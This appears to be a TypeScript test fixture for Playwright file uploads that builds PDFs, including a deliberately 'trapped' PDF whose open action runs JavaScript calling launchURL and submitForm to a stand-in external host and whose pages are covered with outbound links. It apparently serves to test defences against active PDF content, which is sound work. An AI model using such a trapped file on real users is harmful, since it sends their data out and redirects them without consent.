/** A file as Playwright hands it to a chooser. */
export interface UploadFile {
  name: string;
  mimeType: string;
  buffer: Buffer;
}

/** A small but real PDF, padded to `size` bytes. */
export function pdf(name: string, size = 0): UploadFile {
  const page =
    '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n' +
    '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n' +
    '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF';
  const buffer = Buffer.alloc(Math.max(size, page.length), ' ');
  buffer.write(page);
  return { name, mimeType: 'application/pdf', buffer };
}

/**
 * A PDF of two pages of text that runs a script when opened and covers its pages with links to
 * another site.
 */
export function trappedPdf(): Buffer {
  const written = (text: string) => {
    const drawing = `BT /F 24 Tf 40 500 Td (${text}) Tj ET 0 0 0 rg 40 100 200 200 re f`;
    return `<</Length ${String(drawing.length)}>>stream\n${drawing}\nendstream`;
  };
  const page = (contents: number) =>
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 400 560]/Resources<</Font<</F 7 0 R>>>>' +
    `/Contents ${String(contents)} 0 R/Annots[8 0 R]>>`;
  const script =
    "app.launchURL('https://example.net/script');this.submitForm('https://example.net')";
  const objects = [
    `<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(${script.replace(/[()]/g, '\\$&')})>>>>`,
    '<</Type/Pages/Kids[3 0 R 4 0 R]/Count 2>>',
    page(5),
    page(6),
    written('Class A licence'),
    written('Tanker endorsement'),
    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
    '<</Type/Annot/Subtype/Link/Rect[0 0 400 560]/A<</S/URI/URI(https://example.net/link)>>>>',
  ];
  const body = objects.map((object, index) => `${String(index + 1)} 0 obj\n${object}\nendobj\n`);
  return Buffer.from(`%PDF-1.4\n${body.join('')}trailer<</Root 1 0 R>>\n%%EOF`);
}
